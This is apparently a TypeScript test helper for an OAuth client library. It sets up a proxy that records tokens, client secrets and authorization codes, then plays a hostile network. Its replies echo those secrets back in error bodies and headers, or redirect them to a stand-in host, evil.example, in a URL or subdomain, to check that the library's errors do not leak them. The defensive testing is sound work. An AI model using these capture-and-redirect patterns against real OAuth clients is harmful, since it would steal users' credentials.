import { inspect } from 'node:util';
import { SPELLINGS } from '../hostility/world/secrets.js';
import { exchange } from '../support/browser.js';
import { network, type Reply, type SeenRequest } from '../support/server.js';

/** Makes a hostile network's response from the secrets that it has seen. */
export type Echo = (secrets: readonly string[]) => Reply;

/** Each secret with its parameter name. */
export type Secrets = Map<string, string>;

export type Eavesdropper = Awaited<ReturnType<typeof eavesdrop>>;

const SECRET_PARAMETERS = [
  ...'code state code_verifier client_secret service_token access_token refresh_token id_token'.split(' '),
  ...'oauth_token oauth_token_secret oauth_verifier'.split(' '),
];

/** A proxy to the sandbox that records every secret it sees. */
export async function eavesdrop(sandbox: { readonly url: string }) {
  const secrets: Secrets = new Map();
  let passing = Number.POSITIVE_INFINITY;
  let hostile: Echo = () => ({});
  const between = await network(async (seen) => {
    note(secrets, requestSecrets(seen));
    passing -= 1;
    if (passing < 0) return hostile([...secrets.keys()]);
    const reply = await passOn(sandbox.url, seen);
    note(secrets, responseSecrets(reply.body));
    return reply;
  });
  return Object.assign(between, {
    secrets,
    /** Passes on `after` more requests, then responds with the echo. */
    turnHostile(after: number, echo: Echo) {
      passing = after;
      hostile = echo;
    },
    calmDown() {
      passing = Number.POSITIVE_INFINITY;
    },
  });
}

export function urlSecrets(url: string): Secrets {
  return pick(new URL(url).searchParams);
}

export function note(known: Secrets, more: Secrets): void {
  for (const [secret, name] of more) known.set(secret, name);
}

function requestSecrets({ form, headers }: SeenRequest): Secrets {
  const [scheme = '', credentials = ''] = headers.authorization?.split(/ (.*)/s) ?? [];
  return new Map([...pick(form), ...headerSecrets(scheme, credentials)]);
}

function headerSecrets(scheme: string, credentials: string): Secrets {
  if (scheme === 'Bearer') return new Map([[credentials, 'access_token']]);
  if (scheme === 'Basic') {
    const [, secret = ''] = Buffer.from(credentials, 'base64').toString().split(':');
    return new Map([[decodeURIComponent(secret), 'client_secret']]);
  }
  const parameters = credentials.split(', ').map((parameter) => parameter.replaceAll('"', ''));
  return pick(new URLSearchParams(parameters.join('&')));
}

function responseSecrets(body: string): Secrets {
  try {
    return pick(new Map(Object.entries(JSON.parse(body))));
  } catch {
    return pick(new URLSearchParams(body));
  }
}

function pick(parameters: { get(name: string): unknown }): Secrets {
  const found: Secrets = new Map();
  for (const name of SECRET_PARAMETERS) {
    const value = parameters.get(name);
    if (typeof value === 'string' && value.length > 8) found.set(value, name);
  }
  return found;
}

/** Passes a request on with its own Host header, because the sandbox checks signatures and URLs against it. */
export async function passOn(target: string, { method, url, headers, body }: SeenRequest) {
  const { status, headers: received, text } = await exchange(`${target}${url}`, method, body, headers);
  const { location, 'content-type': type = '' } = received;
  return { status, headers: { 'content-type': type, ...(location && { location }) }, body: text };
}

/** A new secret in a response, which an error caused by that response must not show. */
export const FRESH_SECRET = 'fresh-secret-of-a-hostile-network-0123456789';

const described = (echoed: string) => ({ error: 'invalid_grant', error_description: echoed });
const nested = (echoed: string, code: unknown) => ({
  code: echoed,
  message: echoed,
  log_id: echoed,
  error_code: code,
  error_msg: echoed,
});

/** The places in an error response that may echo a string; each network reads some of them. */
const PLACES: Readonly<Record<string, (echoed: string) => Reply>> = {
  'an error_description with 400': (echoed) => ({ status: 400, body: described(echoed) }),
  'an error_description with 200': (echoed) => ({ body: described(echoed) }),
  'an error code': (echoed) => ({ status: 401, body: { error: echoed, log_id: echoed } }),
  'a nested error': (echoed) => ({ status: 401, body: { error: nested(echoed, 5), data: {} } }),
  'a nested error with 200': (echoed) => ({
    body: {
      error: { ...nested(echoed, echoed), request_params: [{ key: 'access_token', value: echoed }] },
    },
  }),
  'a list of errors': (echoed) => ({
    status: 403,
    body: { errors: [{ code: 89, message: echoed }, { message: echoed }] },
  }),
  'a problem': (echoed) => ({
    status: 403,
    body: { title: echoed, detail: echoed, type: `https://problems.example/${echoed}` },
  }),
  'XML with a code': (echoed) => ({
    status: 401,
    body: `<?xml version="1.0"?><errors><error code="32">${echoed}</error></errors>`,
  }),
  'XML without a code': (echoed) => ({ status: 401, body: `<hash><error>${echoed}</error></hash>` }),
  'a short sentence': (echoed) => ({ status: 401, body: echoed.slice(0, 200).replace(/ [^ ]*$/, '') }),
  'a page': (echoed) => ({ status: 500, body: `<html><p>${echoed}</p></html>` }),
};

const OTHERS: Readonly<Record<string, Echo>> = {
  'a redirect to a URL with the secrets': (secrets) => ({
    status: 302,
    headers: { location: `https://evil.example/?${secrets.map(encodeURIComponent).join('&')}` },
  }),
  'a redirect to a host with a secret': ([secret = '']) => ({
    status: 307,
    headers: { location: `https://${secret.replace(/[^a-zA-Z0-9-]/g, '-')}.evil.example/` },
  }),
  'headers with the secrets': (secrets) => ({
    status: 429,
    headers: { 'x-tt-logid': secrets.join(' '), 'retry-after': secrets.join(' ') },
    body: { error: { code: 'rate_limit_exceeded' } },
  }),
  'a token next to an error that names it': () => ({
    status: 400,
    body: { error: 'invalid_grant', error_description: `not ${FRESH_SECRET}`, access_token: FRESH_SECRET },
  }),
  'a token deep inside an error that names it': () => ({
    body: {
      error: { code: 'x', message: FRESH_SECRET, error_msg: FRESH_SECRET, info: { token: FRESH_SECRET } },
    },
  }),
  'token credentials with 401': () => ({
    status: 401,
    body: `oauth_token=${FRESH_SECRET}&oauth_token_secret=${FRESH_SECRET}`,
  }),
  'a token of an unknown type': (secrets) => ({
    body: { access_token: FRESH_SECRET, token_type: secrets.join(' ') },
  }),
};

export const ECHOES: Readonly<Record<string, Echo>> = {
  ...OTHERS,
  ...Object.fromEntries(
    Object.entries(PLACES).map(([place, reply]): [string, Echo] => [
      place,
      (secrets) => reply(secrets.join(' ')),
    ]),
  ),
};

/** The number of characters that identify a secret, even in a truncated string. */
const RECOGNIZABLE = 16;

/** Everything that printing, serializing or traversing a value shows. */
export function shownBy(value: unknown): string {
  return [
    inspect(value, { depth: Number.POSITIVE_INFINITY, showHidden: false }),
    inspect(value, { depth: Number.POSITIVE_INFINITY, showHidden: true }),
    JSON.stringify(value),
    String(value),
    ...stringsIn(value),
  ].join('\n');
}

/** The names of the secrets whose first characters are in a string, in any spelling. */
export function exposed(shown: string, secrets: ReadonlyMap<string, string>): string[] {
  return [...secrets].flatMap(([secret, name]) => {
    const spelling = Object.entries(SPELLINGS).find(([, spell]) =>
      shown.includes(spell(secret).slice(0, RECOGNIZABLE)),
    );
    return spelling ? [`${name}, ${spelling[0]}`] : [];
  });
}

/** Every string in a value's own properties, recursively, including non-enumerable ones such as `cause`. */
function stringsIn(value: unknown, seen = new Set<unknown>()): string[] {
  if (typeof value === 'string') return [value];
  if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value))
    return [];
  seen.add(value);
  return Reflect.ownKeys(value).flatMap((key) => {
    const descriptor = Object.getOwnPropertyDescriptor(value, key);
    // Skip getters: tools do not print their values, and strategies keep secrets behind them.
    return descriptor && 'value' in descriptor ? [String(key), ...stringsIn(descriptor.value, seen)] : [];
  });
}
